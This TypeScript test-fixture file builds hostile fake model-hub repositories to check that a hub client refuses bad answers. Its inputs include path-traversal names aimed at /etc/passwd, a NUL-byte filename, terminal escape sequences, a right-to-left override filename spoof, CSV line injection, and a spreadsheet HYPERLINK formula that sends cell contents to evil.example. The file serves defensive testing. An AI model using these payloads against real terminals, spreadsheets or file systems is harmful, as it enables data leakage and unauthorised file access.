import { type HubRepo, type HubTreeEntry, hubRepo, lfsFile } from "./hub-repo.ts";

const CONFIG = JSON.stringify({ architectures: ["BertModel"], model_type: "bert" });
const WEIGHTS = lfsFile("weights");

/** What a hub that errs or lies may say, and how the model is refused for it. */
export const REFUSED_REPOS: readonly { readonly repo: HubRepo; readonly code: string; readonly why: string }[] = [
  distorted("negative-size", "HUB_ANSWER_INVALID", (entry) => ({ ...entry, size: -1 })),
  distorted("size-of-text", "HUB_ANSWER_INVALID", (entry) => ({ ...entry, size: "7" as never })),
  distorted("fraction-of-size", "HUB_ANSWER_INVALID", (entry) => ({ ...entry, size: 0.5 })),
  distorted("no-oid", "HUB_ANSWER_INVALID", (entry) => ({ ...entry, oid: "0" })),
  distorted("other-content", "HUB_ANSWER_INVALID", (entry) => ({ ...entry, oid: "0".repeat(40) })),
  distorted("path-above", "RESOURCE_NAME_INVALID", (entry) => ({ ...entry, path: "../../../etc/passwd" })),
  distorted("path-inside-above", "RESOURCE_NAME_INVALID", (entry) => ({ ...entry, path: "a/../../b" })),
  distorted("absolute-path", "RESOURCE_NAME_INVALID", (entry) => ({ ...entry, path: "/etc/passwd" })),
  distorted("backslash", "RESOURCE_NAME_INVALID", (entry) => ({ ...entry, path: "..\\evil" })),
  distorted("nul", "RESOURCE_NAME_INVALID", (entry) => ({ ...entry, path: "config.json\0.txt" })),
  distorted("empty-path", "RESOURCE_NAME_INVALID", (entry) => ({ ...entry, path: "" })),
  distorted("no-path", "HUB_ANSWER_INVALID", (entry) => ({ ...entry, path: 7 as never })),
  distorted("same-name-twice", "RESOURCE_NAME_INVALID", (entry) => ({ ...entry, path: "model.safetensors" })),
  distorted("submodule", "MODEL_UNSUPPORTED_ENTRY", (entry) => ({ ...entry, type: "commit" })),
  distorted("lfs-oid-of-other-form", "HUB_ANSWER_INVALID", undefined, (entry) => withLfs(entry, { oid: "deadbeef" })),
  distorted("lfs-size-negative", "HUB_ANSWER_INVALID", undefined, (entry) => withLfs(entry, { size: -5 })),
  // The digest of other weights: the pointer in the commit does not name it.
  distorted("wrong-lfs-oid", "HUB_ANSWER_INVALID", undefined, (entry) => withLfs(entry, { oid: "ab".repeat(32) })),
  distorted("wrong-lfs-size", "HUB_ANSWER_INVALID", undefined, (entry) => {
    return { ...withLfs(entry, { size: 8 }), size: 8 };
  }),
  { repo: { ...hubRepo("hostile/no-commit", {}), commits: [] }, code: "HUB_REPO_EMPTY", why: "no commit" },
  { repo: hubRepo("hostile/git-only", { ".gitattributes": "x" }), code: "HUB_REPO_EMPTY", why: "no file of a model" },
];

/** Names and texts that would do something to a terminal or a spreadsheet. */
export const STRANGE_TEXTS: readonly HubRepo[] = [
  strange("escape", "\u001b[2J\u001b]0;owned\u0007Bert"),
  strange("formula", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
  strange("formula-of-tab", "\t=1+1"),
  strange("direction", "Bert\u202Egnp.exe"),
  strange("lines", 'Bert"\r\nevil,1,2'),
];

/** A repository whose configuration has ten megabytes: it is hashed, and not read. */
export function largeConfigRepo(): HubRepo {
  const config = `{"architectures":["Large"],"padding":"${"x".repeat(10 * 1024 * 1024)}"}`;
  return hubRepo("hostile/large-config", { "config.json": config, "model.safetensors": WEIGHTS });
}

/** Two models that each say they were made from the other. */
export const CYCLE: readonly HubRepo[] = [
  hubRepo("cycle/a", { "README.md": card("cycle/b"), "model.bin": lfsFile("a") }),
  hubRepo("cycle/b", { "README.md": card("cycle/a"), "model.bin": lfsFile("b") }),
];

function card(base: string): string {
  return `---\nlicense: mit\nbase_model: ${base}\nbase_model_relation: finetune\n---\n`;
}

function strange(name: string, architecture: string): HubRepo {
  const config = JSON.stringify({ architectures: [architecture], model_type: "none" });
  const map = JSON.stringify({ unk_token: architecture });
  const files = { "config.json": config, "special_tokens_map.json": map, "model.safetensors": lfsFile(name) };
  return hubRepo(`strange/${name}`, files, { pipeline_tag: architecture, tags: [architecture] });
}

function distorted(
  name: string,
  code: string,
  plain?: (entry: HubTreeEntry) => HubTreeEntry,
  lfs?: (entry: HubTreeEntry) => HubTreeEntry,
) {
  const distort = (entries: HubTreeEntry[]) =>
    entries.map((entry) => (entry.lfs === undefined ? (plain?.(entry) ?? entry) : (lfs?.(entry) ?? entry)));
  const files = { "config.json": CONFIG, "model.safetensors": WEIGHTS };
  return { repo: hubRepo(`hostile/${name}`, files, {}, { distort }), code, why: name.replaceAll("-", " ") };
}

function withLfs(entry: HubTreeEntry, change: Partial<NonNullable<HubTreeEntry["lfs"]>>): HubTreeEntry {
  return { ...entry, lfs: { ...(entry.lfs as NonNullable<HubTreeEntry["lfs"]>), ...change } };
}
